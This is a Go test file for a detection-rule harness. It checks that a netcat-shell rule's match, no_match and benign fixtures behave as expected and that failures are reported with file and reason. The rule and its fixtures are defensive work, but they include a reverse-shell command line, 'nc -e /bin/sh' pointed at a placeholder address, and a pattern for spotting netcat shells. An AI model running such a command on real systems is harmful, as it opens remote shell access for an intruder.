package ruletest

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/holdfast-security/holdfast"
	"github.com/holdfast-security/holdfast/internal/language/bundle"
	"github.com/holdfast-security/holdfast/internal/language/ocsf"
)

const rule = `title: Netcat shell
id: 5f2c8b3e-2f0c-4b58-9f37-6f0f2f2a8f11
level: high
logsource: {product: linux, category: process_creation}
detection:
  s:
    Image|endswith: /nc
    CommandLine|contains: ' -e '
  condition: s
`

func repo(tests, benign string) *bundle.Bundle {
	return &bundle.Bundle{
		Header: bundle.Header{Schema: 1, Channel: holdfast.Rules, Name: "t", Version: "1"},
		Files: map[string][]byte{
			"rules/nc.yml": []byte(rule), "tests/nc.yml": []byte(tests), "benign/b.jsonl": []byte(benign),
		},
	}
}

const match = "match:\n  - {Image: /usr/bin/nc, CommandLine: nc -e /bin/sh 192.0.2.1 1}\n"

func TestABundleThatHoldsItsTests(t *testing.T) {
	r, err := Run(repo(match+"no_match:\n  - {Image: /usr/bin/nc, CommandLine: nc -zv h 22}\n", `{"Image":"/bin/ls","ProcessId":7}`))
	want := Result{Rules: 1, Matched: 1, Silent: 1, Benign: 1}
	if err != nil || !cmp.Equal(r, want) {
		t.Fatal(err, cmp.Diff(want, r))
	}
}

func TestEveryFailureSaysWhereAndWhy(t *testing.T) {
	for name, c := range map[string]struct{ tests, benign, want string }{
		"missed":       {"match:\n  - {Image: /bin/ls}\nno_match:\n  - {Image: /bin/ls}\n", "", "match event 1: the rule does not match"},
		"false alarm":  {match + "no_match:\n  - {Image: /bin/nc, CommandLine: x -e y}\n", "", "no_match event 1: the rule matches"},
		"benign":       {match + "no_match:\n  - {Image: /bin/ls}\n", `{"Image":"/bin/nc","CommandLine":"nc -e x"}`, "matches a benign event"},
		"unknown name": {"match:\n  - {Imagge: /bin/ls}\nno_match:\n  - {Image: /bin/ls}\n", "", "no field Imagge"},
	} {
		r, err := Run(repo(c.tests, c.benign))
		if err != nil || len(r.Problems) != 1 || !strings.Contains(r.Problems[0].Reason, c.want) || r.Problems[0].File == "" {
			t.Errorf("%s: %v %+v", name, err, r.Problems)
		}
	}
}

func TestARuleWithoutTestsIsNamed(t *testing.T) {
	b := repo(match, "")
	if r, err := Run(b); err != nil || !cmp.Equal(r.Untested, []string{"rules/nc.yml"}) {
		t.Fatal(err, r.Untested)
	}
}

func TestStaticReadsTheManifestOfTheOtherBuild(t *testing.T) {
	data, err := repo(match, "").Encode()
	if err != nil {
		t.Fatal(err)
	}
	m := ocsf.Manifest("1", "linux/amd64")
	if p := Static(data, m); len(p) != 0 {
		t.Fatalf("%+v", p)
	}
	for i, in := range m.Classes[0].Inputs {
		if in.Path == "process.cmd_line" {
			m.Classes[0].Inputs[i].Path = "process.something_else"
		}
	}
	p := Static(data, m)
	if len(p) != 1 || p[0].File != "rules/nc.yml" || p[0].Line == 0 || p[0].Field != "CommandLine" {
		t.Fatalf("%+v", p)
	}
	m.Limits.BundleBytes = 10
	if p := Static(data, m); len(p) != 2 {
		t.Fatalf("%+v", p)
	}
}
